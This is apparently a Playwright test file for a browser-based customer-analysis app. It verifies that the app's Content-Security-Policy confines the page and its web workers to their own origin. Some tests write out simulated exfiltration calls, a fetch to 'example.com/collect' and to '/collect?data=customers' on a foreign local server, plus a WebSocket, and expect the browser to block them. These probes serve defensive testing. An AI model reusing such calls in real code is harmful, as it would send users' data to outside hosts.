import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Worker } from '@playwright/test';
import { expect, test, type PageWatch } from './fixtures';
import { loadDemo, metricText } from './journeys';

const views = [
	'',
	'data/',
	'value/',
	'segments/',
	'personas/',
	'profit/',
	'movement/',
	'loyalty/',
	'reviews/',
	'clv/'
];
const labels = [
	'Data',
	'Value',
	'Segments',
	'Personas',
	'Profit',
	'Movement',
	'Loyalty',
	'Reviews',
	'Lifetime value'
];

test('a full visit from a sub-path stays on the page’s origin', async ({ page, watched }) => {
	for (const view of views) {
		await page.goto(view);
		await expect(page.getByRole('main')).toBeVisible();
		await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
	}
	// Navigate through the header as a user would, client-side.
	await page.goto('');
	for (const label of labels) {
		await page
			.getByRole('navigation', { name: 'Analysis views' })
			.getByRole('link', { name: label, exact: true })
			.click();
		await expect(page.getByRole('link', { name: label, exact: true })).toHaveAttribute(
			'aria-current',
			'page'
		);
	}
	expect(watched.requests.length).toBeGreaterThan(5);
	expect(watched.requests.every((url) => url.includes('/tools/sieve/'))).toBe(true);
});

test('a workshop visit — demo business, every view, exports — makes no request to another origin', async ({
	page,
	watched
}) => {
	await page.goto('');
	await page.getByRole('link', { name: 'Try the demo business' }).first().click();
	await expect(page.getByTestId('import-summary')).toBeVisible({ timeout: 60_000 });
	await page.waitForURL(/[?&]dataset=/);
	await expect(page.locator('[data-metric="import.customers"]')).toHaveAttribute(
		'data-value',
		/^\d{4}$/
	);
	for (const label of [...labels.slice(1), 'Data']) {
		await page
			.getByRole('navigation', { name: 'Analysis views' })
			.getByRole('link', { name: label, exact: true })
			.click();
		await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
		await page.waitForTimeout(1500);
	}
	await page
		.getByRole('navigation', { name: 'Analysis views' })
		.getByRole('link', { name: 'Value', exact: true })
		.click();
	const download = page.waitForEvent('download');
	await page.getByRole('button', { name: 'Export CSV' }).click();
	await download;
	expect(watched.requests.length).toBeGreaterThan(10);
});

test('the page forbids other origins with a Content-Security-Policy', async ({ page, watched }) => {
	await page.goto('');
	const csp = await page
		.locator('meta[http-equiv="content-security-policy"]')
		.getAttribute('content');
	expect(csp).toContain("default-src 'self'");
	expect(csp).toContain("connect-src 'self'");
	expect(csp).toContain("font-src 'self'");
	// A script that tries to reach out is refused by the browser.
	const outcome = await page.evaluate(async () => {
		try {
			await fetch('https://example.com/collect', { mode: 'no-cors' });
			return 'sent';
		} catch {
			return 'blocked';
		}
	});
	expect(outcome).toBe('blocked');
	// The watch saw the attempt; it is this test's intended violation, so take it off the list.
	await expect.poll(() => watched.consoleErrors.some((e) => e.includes('example.com'))).toBe(true);
	watched.consoleErrors.length = 0;
	watched.foreignRequests.length = 0;
});

/**
 * A server on another port of the same host (so another origin) that records every request and
 * completes WebSocket handshakes: without the policy in the worker, both attempts below reach it.
 */
async function startForeignServer(): Promise<{
	origin: string;
	hits: string[];
	close: () => void;
}> {
	const hits: string[] = [];
	const server = createServer((request, response) => {
		hits.push(`${request.method} ${request.url}`);
		response.writeHead(200, { 'access-control-allow-origin': '*' });
		response.end('received');
	});
	server.on('upgrade', (request, socket) => {
		hits.push(`websocket ${request.url}`);
		const accept = createHash('sha1')
			.update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
			.digest('base64');
		socket.write(
			`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`
		);
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	const { port } = server.address() as AddressInfo;
	return {
		origin: `127.0.0.1:${port}`,
		hits,
		close: () => {
			server.closeAllConnections();
			server.close();
		}
	};
}

/** What a worker's attempts to reach its own origin and another one came to. */
interface NetworkProbe {
	/** The worker's name (`sieve-analysis`, `sieve-parse`), as `startModuleWorker` gives it. */
	name: string;
	sameOrigin: string;
	fetch: string;
	webSocket: string;
	/** Whether WebAssembly compiles (the parse workers' byte scanner needs it) and eval does not. */
	wasm: string;
	eval: string;
}

/**
 * Runs, inside `worker`, a fetch to its own origin and a fetch and a WebSocket to the other origin,
 * all at once (a parse worker lives only while its piece is read); and compiles an empty
 * WebAssembly module (the policy's 'wasm-unsafe-eval', for the byte scanner) and evaluates a string
 * (which the policy must still refuse).
 */
function probeNetwork(
	worker: Worker,
	foreignOrigin: string,
	ownUrl: string
): Promise<NetworkProbe> {
	return worker.evaluate(
		async ({ foreignOrigin, ownUrl }) => {
			const tryFetch = async (url: string) => {
				try {
					await fetch(url, { mode: 'no-cors', cache: 'no-store' });
					return 'sent';
				} catch {
					return 'blocked';
				}
			};
			const trySocket = (url: string) =>
				new Promise<string>((resolve) => {
					setTimeout(() => resolve('no answer'), 5000);
					try {
						const socket = new WebSocket(url);
						socket.onopen = () => {
							socket.close();
							resolve('open');
						};
						socket.onerror = () => resolve('blocked');
					} catch {
						resolve('blocked');
					}
				});
			const tryCompile = () => {
				try {
					new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
					return 'compiled';
				} catch {
					return 'blocked';
				}
			};
			const tryEval = () => {
				try {
					return new Function('return "evaluated"')() as string;
				} catch {
					return 'blocked';
				}
			};
			const [sameOrigin, foreignFetch, webSocket] = await Promise.all([
				tryFetch(ownUrl),
				tryFetch(`http://${foreignOrigin}/collect?data=customers`),
				trySocket(`ws://${foreignOrigin}/stream`)
			]);
			return {
				name: self.name,
				sameOrigin,
				fetch: foreignFetch,
				webSocket,
				wasm: tryCompile(),
				eval: tryEval()
			};
		},
		{ foreignOrigin, ownUrl }
	);
}

/**
 * Takes the browser's refusals of `origin` and of the probe's eval (a test's intended violations)
 * off the watch's lists.
 */
function dropIntendedViolations(watched: PageWatch, origin: string): void {
	const intended = (text: string) =>
		text.includes(origin) || /Refused to evaluate a string as JavaScript/.test(text);
	watched.consoleErrors.splice(0, Infinity, ...watched.consoleErrors.filter((e) => !intended(e)));
	watched.foreignRequests.splice(
		0,
		Infinity,
		...watched.foreignRequests.filter((url) => !intended(url))
	);
}

test('the analysis worker, which holds the data, cannot fetch from or open a WebSocket to another origin', async ({
	page,
	watched,
	baseURL
}) => {
	const foreign = await startForeignServer();
	try {
		// The server answers when asked directly: a refusal below is the browser's, not the network's.
		expect((await fetch(`http://${foreign.origin}/probe`)).ok).toBe(true);
		foreign.hits.length = 0;

		const workers: Worker[] = [];
		page.on('worker', (worker) => workers.push(worker));
		await loadDemo(page);
		expect(workers.length).toBeGreaterThan(0);
		const worker = workers[workers.length - 1];

		const outcome = await probeNetwork(worker, foreign.origin, baseURL ?? '');
		// The worker can still reach its own origin: what is refused is only the other origin.
		expect(outcome).toEqual({
			name: 'sieve-analysis',
			sameOrigin: 'sent',
			fetch: 'blocked',
			webSocket: 'blocked',
			wasm: 'compiled',
			eval: 'blocked'
		});
		expect(foreign.hits, 'requests that reached the other origin').toEqual([]);
	} finally {
		foreign.close();
	}
	dropIntendedViolations(watched, foreign.origin);
});

/**
 * Data lines of the file below: about 83 bytes each, 50 MB in all. 16 MiB would be enough for
 * parse workers, but each then lives only ~0.35 s, against ~0.15 s for a probe to answer; at
 * 50 MB each reads its piece for over a second (measured on two cores).
 */
const LARGE_FILE_LINES = 600_000;

/**
 * A valid Online-Retail-shaped orders file (every line has a customer, a positive quantity and
 * price, a date), deterministic, past the 16 MiB (`MIN_PIECE_BYTES` × 2) from which the analysis
 * worker cuts an orders file into pieces for its parse workers.
 */
function largeRetailFile(dir: string): string {
	const descriptions = [
		'WHITE HANGING HEART T-LIGHT HOLDER',
		'REGENCY CAKESTAND 3 TIER',
		'JUMBO BAG RED RETROSPOT',
		'PARTY BUNTING',
		'LUNCH BAG  BLACK SKULL.',
		'ASSORTED COLOUR BIRD ORNAMENT'
	];
	const countries = ['United Kingdom', 'Germany', 'France', 'EIRE', 'Spain'];
	const lines = [
		'InvoiceNo,StockCode,Description,Quantity,InvoiceDate,UnitPrice,CustomerID,Country'
	];
	const two = (n: number) => String(n).padStart(2, '0');
	for (let i = 0; i < LARGE_FILE_LINES; i++) {
		const order = Math.floor(i / 3);
		// One order a minute from 2010-01-01 (months of 28 days, enough for a valid calendar).
		const minute = order % 60;
		const hour = Math.floor(order / 60) % 24;
		const day = 1 + (Math.floor(order / 1440) % 28);
		const month = 1 + (Math.floor(order / 40_320) % 12);
		const year = 2010 + Math.floor(order / 483_840);
		const customer = 12_000 + ((order * 7919) % 4_000);
		lines.push(
			[
				500_000 + order,
				`${20_000 + (i % 3_000)}A`,
				descriptions[i % descriptions.length],
				1 + (i % 12),
				`${year}-${two(month)}-${two(day)} ${two(hour)}:${two(minute)}:00`,
				(0.25 * (1 + (i % 40))).toFixed(2),
				`${customer}.0`,
				countries[customer % countries.length]
			].join(',')
		);
	}
	const path = join(dir, 'large-online-retail.csv');
	writeFileSync(path, `${lines.join('\n')}\n`);
	return path;
}

/*
 * The parse workers (`worker/data/parse-pool.ts`) are started by the analysis worker, each from a
 * `blob:` bootstrap, so they inherit the page's policy through it. Checked that this test can fail:
 * against a copy of `build/` whose pages' Content-Security-Policy <meta> was removed, served by
 * `scripts/serve.mjs --dir` (a temporary Playwright config), both parse workers answered
 * `fetch: 'sent', webSocket: 'open'` and the other origin's server recorded their requests. (The
 * policy cannot be removed with `page.route` and `route.fulfill`: Chromium then treats the page as
 * outside the loopback address space and refuses every loopback request, policy or not.)
 */
test('the parse workers of a large import cannot fetch from or open a WebSocket to another origin', async ({
	page,
	watched,
	baseURL
}) => {
	const dir = mkdtempSync(join(tmpdir(), 'sieve-parse-csp-'));
	const foreign = await startForeignServer();
	try {
		const file = largeRetailFile(dir);
		expect(statSync(file).size).toBeGreaterThanOrEqual(16 * 2 ** 20);
		expect((await fetch(`http://${foreign.origin}/probe`)).ok).toBe(true);
		foreign.hits.length = 0;

		await page.goto('data/');
		// Playwright reports the workers a worker starts (it auto-attaches to every worker target, in
		// Chromium), so each parse worker appears here as the analysis worker starts it. Each is
		// probed at once, while it reads its piece; one terminated before its probe answered counts
		// for nothing (but its attempts would still reach the server's hits).
		const probes: Promise<NetworkProbe | null>[] = [];
		page.on('worker', (worker) => {
			probes.push(probeNetwork(worker, foreign.origin, baseURL ?? '').catch(() => null));
		});
		await page.getByTestId('orders-file').setInputFiles(file);
		await page.getByRole('button', { name: 'Import', exact: true }).click();
		await expect(page.getByTestId('import-summary')).toBeVisible({ timeout: 90_000 });
		// Every line is read and kept: the parse workers' pieces make the whole file.
		expect(await metricText(page, 'import.rows')).toBe(String(LARGE_FILE_LINES));
		expect(await metricText(page, 'import.lines')).toBe(String(LARGE_FILE_LINES));
		expect(await metricText(page, 'import.rejected')).toBe('0');

		const outcomes = (await Promise.all(probes)).filter((probe) => probe !== null);
		const parseWorkers = outcomes.filter((probe) => probe.name === 'sieve-parse');
		expect(parseWorkers.length, 'parse workers probed before they ended').toBeGreaterThan(0);
		// Every worker that answered (the parse workers, and the analysis worker that started them)
		// reaches its own origin; what is refused is only the other origin.
		// WebAssembly compiles (the byte scanner runs), eval does not.
		const ownOriginOnly = {
			sameOrigin: 'sent',
			fetch: 'blocked',
			webSocket: 'blocked',
			wasm: 'compiled',
			eval: 'blocked'
		};
		expect(outcomes).toEqual(outcomes.map(({ name }) => ({ name, ...ownOriginOnly })));
		expect(foreign.hits, 'requests that reached the other origin').toEqual([]);
	} finally {
		foreign.close();
		rmSync(dir, { recursive: true, force: true });
	}
	dropIntendedViolations(watched, foreign.origin);
});

/** The Content-Security-Policy line of `static/_headers`, the file shipped for header-capable hosts. */
function shippedHeaderPolicy(): string {
	const text = readFileSync(join(process.cwd(), 'static', '_headers'), 'utf8');
	const line = /^\s+Content-Security-Policy:\s*(.+)$/m.exec(text);
	if (!line) throw new Error('static/_headers has no Content-Security-Policy line');
	return line[1].trim();
}

/** `directive → sources` of a policy. */
function directives(policy: string): Map<string, string> {
	return new Map(
		policy
			.split(';')
			.map((part) => part.trim().split(/\s+/))
			.filter((words) => words[0] !== '')
			.map(([name, ...sources]) => [name, sources.join(' ')])
	);
}

test('the shipped _headers policy matches the page’s, forbids framing, and the app runs under it', async ({
	page
}) => {
	const policy = shippedHeaderPolicy();
	const header = directives(policy);
	expect(header.get('frame-ancestors')).toBe("'none'");
	expect(header.get('connect-src')).toBe("'self'");
	// Serve every response with the header, as Netlify or Cloudflare Pages would.
	await page.route('**/*', async (route) => {
		const response = await route.fetch();
		await route.fulfill({
			response,
			headers: { ...response.headers(), 'content-security-policy': policy }
		});
	});
	await loadDemo(page);
	await expect(page.locator('[data-metric="import.customers"]')).toHaveAttribute(
		'data-value',
		/^\d{4}$/
	);
	// Every directive of the <meta> policy is in the header, with the same sources (the header defers
	// inline scripts to the meta policy's hashes).
	const meta = directives(
		(await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content')) ?? ''
	);
	for (const [name, sources] of meta) {
		if (name === 'script-src')
			expect(header.get(name)).toBe("'self' 'unsafe-inline' 'wasm-unsafe-eval'");
		else expect(header.get(name), name).toBe(sources);
	}
	// Console errors (a refused bootstrap script, a refused worker) fail the test in the fixture.
});
